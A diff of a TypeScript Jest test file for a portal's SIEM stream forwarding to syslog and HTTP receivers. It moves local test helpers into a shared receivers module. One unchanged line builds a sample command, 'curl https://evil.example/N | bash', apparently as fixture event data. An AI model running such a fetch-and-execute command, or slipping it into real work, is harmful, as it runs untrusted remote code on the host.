@@ -1,101 +1,13 @@
 import { createHmac } from 'node:crypto';
-import http from 'node:http';
-import net, { type AddressInfo } from 'node:net';
-import tls from 'node:tls';
-import { afterEach, expect, jest, test } from '@jest/globals';
-import type { Stream } from '../../../src/portal/siem/stream.ts';
+import net from 'node:net';
+import { expect, jest, test } from '@jest/globals';
 import { certificate, hasOpenssl } from '../../helpers/certificates.ts';
-import { startPortal, type TestPortal } from '../../helpers/portal.ts';
+import { startPortal } from '../../helpers/portal.ts';
 import { caller, sendCommands } from '../../helpers/portal-caller.ts';
 import { changeStored } from '../../helpers/portal-store.ts';
+import { closeAfterTest, httpServer, listening, make, streamsOf, syslogServer, until } from './receivers.ts';
 
 jest.setTimeout(60_000);
-
-const closing: (() => Promise<void>)[] = [];
-afterEach(async () => {
-  for (const close of closing.splice(0)) await close();
-});
-
-async function listening(server: net.Server, port = 0): Promise<number> {
-  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
-  return (server.address() as AddressInfo).port;
-}
-
-/** Octet-counted messages, as they arrive; each connection is read to its end. */
-function syslogServer(options?: tls.TlsOptions) {
-  const received: string[] = [];
-  const take = (socket: net.Socket) => {
-    let bytes = Buffer.alloc(0);
-    socket.on('error', () => {});
-    socket.on('data', (chunk: Buffer) => {
-      bytes = Buffer.concat([bytes, chunk]);
-      for (;;) {
-        const counted = /^(\d+) /.exec(bytes.toString('latin1'));
-        const end = (counted?.[0].length ?? 0) + Number(counted?.[1] ?? Number.POSITIVE_INFINITY);
-        if (counted === null || bytes.length < end) return;
-        received.push(bytes.subarray(counted[0].length, end).toString());
-        bytes = bytes.subarray(end);
-      }
-    });
-    socket.on('end', () => socket.end());
-  };
-  const server =
-    options === undefined
-      ? net.createServer({ allowHalfOpen: true }, take)
-      : tls.createServer({ ...options, allowHalfOpen: true }, take);
-  const open = new Set<net.Socket>();
-  server.on('connection', (socket) => open.add(socket));
-  closing.push(() => {
-    for (const socket of open) socket.destroy();
-    return new Promise((resolve) => server.close(() => resolve()));
-  });
-  return { server, received };
-}
-
-interface Batch {
-  type: string;
-  signature: string;
-  body: string;
-}
-async function httpServer(answer: () => number) {
-  const batches: Batch[] = [];
-  const server = http.createServer((request, response) => {
-    let body = '';
-    request.on('data', (chunk) => {
-      body += String(chunk);
-    });
-    request.on('end', () => {
-      const { 'content-type': type, 'capsule-signature': signature } = request.headers;
-      const status = answer();
-      if (status < 300) batches.push({ type: String(type), signature: String(signature), body });
-      response.writeHead(status).end();
-    });
-  });
-  const port = await listening(server);
-  closing.push(async () => {
-    server.closeAllConnections();
-    await new Promise((resolve) => server.close(resolve));
-  });
-  return { url: `http://127.0.0.1:${port}/in`, batches };
-}
-
-/** Asks until it holds; a test whose server has gone must not ask for ever. */
-async function until<T>(ask: () => Promise<T | undefined | false> | T | undefined | false): Promise<T> {
-  for (let asked = 0; asked < 400; asked++) {
-    const found = await ask();
-    if (found !== undefined && found !== false) return found;
-    await new Promise((resolve) => setTimeout(resolve, 50));
-  }
-  throw new Error('it never held');
-}
-
-const make = async (portal: TestPortal, body: object): Promise<{ stream: Stream; secret: string }> => {
-  const made = await caller(portal)('POST', '/api/siem-streams', { body });
-  expect(made.body.error).toBeUndefined();
-  return made.body as unknown as { stream: Stream; secret: string };
-};
-const streamsOf = async (portal: TestPortal): Promise<Stream[]> =>
-  (await caller(portal)('GET', '/api/siem-streams')).body.streams as Stream[];
 
 const bash = (n: number) => `curl https://evil.example/${n} | bash`;
 const jsonOf = (message: string): Record<string, unknown> =>
@@ -269,7 +181,7 @@ test('a receiver that breaks the connection before the end has not got it', asyn
     socket.on('error', () => {});
     socket.once('data', () => socket.resetAndDestroy());
   });
-  closing.push(() => new Promise((resolve) => server.close(() => resolve())));
+  closeAfterTest(() => new Promise((resolve) => server.close(() => resolve())));
   const port = await listening(server);
   const { stream } = await make(portal, { destination: { kind: 'syslog', host: '127.0.0.1', port, transport: 'tcp' } });
   const { body } = await caller(portal)('POST', `/api/siem-streams/${stream.id}/test`);
